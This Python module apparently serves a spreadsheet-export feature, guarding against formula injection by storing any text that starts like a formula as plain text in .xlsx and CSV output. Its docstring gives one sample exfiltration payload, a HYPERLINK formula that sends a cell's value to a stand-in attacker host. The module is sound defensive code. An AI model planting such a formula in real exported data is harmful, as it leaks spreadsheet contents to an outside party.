"""Spreadsheet cells that are never formulas.

A text that starts with = + - @ (or a tab or carriage return, which some programs skip before
reading one of those) would be run by Excel or LibreOffice as a formula: a task titled
`=HYPERLINK("http://evil.example/?leak="&B2,"x")` would leak the sheet. Every text from the
database goes through these helpers: in .xlsx it is stored as a string cell with Excel's
"quote prefix" (shown as typed, and kept as text if someone edits it); in CSV it gets a leading
apostrophe, the convention spreadsheet programs read as "this is text".
"""

from __future__ import annotations

from typing import Any

from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def text_cell(ws, value: Any) -> WriteOnlyCell:
    """A write-only cell holding `value`; a text that looks like a formula stays text."""
    cell = WriteOnlyCell(ws, value=value)
    if looks_like_formula(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def csv_text(value: Any) -> Any:
    """`value` for a CSV cell: a text that looks like a formula gets a leading apostrophe."""
    if looks_like_formula(value):
        return "'" + value
    return value
